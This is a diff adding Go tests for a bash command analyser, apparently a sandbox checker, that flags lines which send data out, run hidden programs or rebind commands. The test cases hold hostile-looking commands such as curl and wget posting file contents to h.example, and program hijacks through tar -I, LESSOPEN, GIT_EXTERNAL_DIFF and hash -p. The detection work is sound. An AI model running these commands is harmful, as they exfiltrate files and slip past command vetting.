@@ -211,6 +211,7 @@ func TestAnalyseSends(t *testing.T) {
 		{"LD_PRELOAD=/workspace/x.so wget --no-config -e netrc=off https://h.example/", true},
 		{"env CURL_HOME=/tmp curl -q https://h.example/", true},
 		{"LC_ALL=C curl -q https://h.example/", false},
+		{`curl -q -s -d "$MSG" https://h.example/`, false},
 	} {
 		parts, _, _, err := bash.Analyse(tt.line, env, 0)
 		if err != nil || len(parts) != 1 {
@@ -243,6 +244,100 @@ func TestAnalyseSendsAfterExport(t *testing.T) {
 		last := parts[len(parts)-1]
 		if got := last.Facts.Sends != ""; got != tt.want {
 			t.Errorf("Analyse(%q): last part Sends = %q, want sends %v", tt.line, last.Facts.Sends, tt.want)
+		}
+	}
+}
+
+// A command Keel does not know to run nothing else and open no
+// connection is opaque (Facts.Opaque): an unknown program (openssl,
+// sqlite3 .shell, script -c), a known one in a form that runs a program
+// (tar -I, sort --compress-program), a variable set for it, variables
+// exported earlier on the line, a write of HOME's configuration; hash -p
+// and enable make the names they rebind dynamic for the rest of the line.
+func TestAnalyseOpaque(t *testing.T) {
+	t.Parallel()
+	env := bash.Env{Mount: "/workspace", Scratch: []string{"/tmp", "/root"}, System: []string{"/usr"}}
+	for _, tt := range []struct {
+		line        string
+		opaque, dyn bool
+	}{
+		{"sqlite3 :memory: '.shell /workspace/x.sh'", true, false},
+		{"script -qc /workspace/x.sh /dev/null", true, false},
+		{"openssl s_client -quiet -proxy 127.0.0.1:4000 -connect h.example:443", true, false},
+		{"tar -I /workspace/x.sh -cf /tmp/a.tar a.txt", true, false},
+		{"tar --to-command=/workspace/x.sh -xf a.tar", true, false},
+		{"tar xIf x.sh a.tar", true, false},
+		{"sort -S 1M --compress-program=/workspace/x.sh big.txt", true, false},
+		{"split --filter=/workspace/x.sh big.txt", true, false},
+		{"zip -T -TT /workspace/x.sh a.zip a.txt", true, false},
+		{"install --strip-program=/workspace/x.sh -s a /tmp/b", true, false},
+		{"LESSOPEN='|/workspace/x.sh %s' less a.txt", true, false},
+		{"mapfile -C /workspace/x.sh -c 1 arr < a.txt", true, false},
+		{"vim -c '!sh x.sh' -c q a.txt", true, false},
+		{"GIT_EXTERNAL_DIFF=./x.sh git diff", true, false},
+		{"PAGER=./x.sh man ls", true, false},
+		{"printf '[core]\\n' > ~/.gitconfig", true, false},
+		{"cp cfg /root/.config/git/config", true, false},
+		{"less README.md", true, false},
+		{"hash -p /workspace/x.sh curl", false, true},
+		{"enable -n echo", false, true},
+		// Known and inert.
+		{"ls -la", false, false},
+		{"cat README.md", false, false},
+		{"grep -rn def src", false, false},
+		{"sed -i s/a/b/ f.py", false, false},
+		{"tar czf a.tgz src", false, false},
+		{"sort -u names.txt", false, false},
+		{"git status", false, false},
+		{"git diff HEAD~1", false, false},
+		{"LC_ALL=C sort f", false, false},
+		{"printf x > /tmp/notes", false, false},
+		{"hash -r", false, false},
+	} {
+		parts, _, _, err := bash.Analyse(tt.line, env, 0)
+		if err != nil || len(parts) != 1 {
+			t.Fatalf("Analyse(%q) = %d parts, %v", tt.line, len(parts), err)
+		}
+		f := parts[0].Facts
+		if got := f.Opaque != ""; got != tt.opaque || f.Dynamic != tt.dyn {
+			t.Errorf("Analyse(%q): Opaque %q Dynamic %v (%s), want opaque %v dynamic %v", tt.line, f.Opaque, f.Dynamic, f.Why, tt.opaque, tt.dyn)
+		}
+	}
+	// hash -p rebinds curl for the rest of the line; an export reaches
+	// every later program.
+	for _, line := range []string{"hash -p /workspace/x.sh curl; curl -q https://h.example/", "export GIT_EXTERNAL_DIFF=./x.sh; git diff"} {
+		parts, _, _, err := bash.Analyse(line, env, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if last := parts[len(parts)-1].Facts; !last.Dynamic && last.Opaque == "" {
+			t.Errorf("Analyse(%q): last part neither dynamic nor opaque: %+v", line, last)
+		}
+	}
+}
+
+// A command substitution in a network program's arguments sends its
+// output as @file sends a file (fresh-user trial 4, N11 f).
+func TestAnalyseSendsSubstitution(t *testing.T) {
+	t.Parallel()
+	env := bash.Env{Mount: "/workspace", Scratch: []string{"/tmp"}, System: []string{"/usr"}}
+	for _, line := range []string{`curl -q -s -d "$(cat notes.txt)" https://h.example/`, `curl -q -s -H "X: $(< notes.txt)" https://h.example/`,
+		"curl -q -s -A \"`cat notes.txt`\" https://h.example/", `wget --no-config -e netrc=off --post-data "$(cat notes.txt)" https://h.example/`} {
+		parts, _, _, err := bash.Analyse(line, env, 0)
+		if err != nil {
+			t.Fatalf("Analyse(%q): %v", line, err)
+		}
+		found := false
+		for _, p := range parts {
+			if n := p.Command.Name(); n == "curl" || n == "wget" {
+				found = true
+				if p.Facts.Sends == "" {
+					t.Errorf("Analyse(%q): %s sends nothing beyond its words", line, n)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("Analyse(%q): no curl or wget part", line)
 		}
 	}
 }
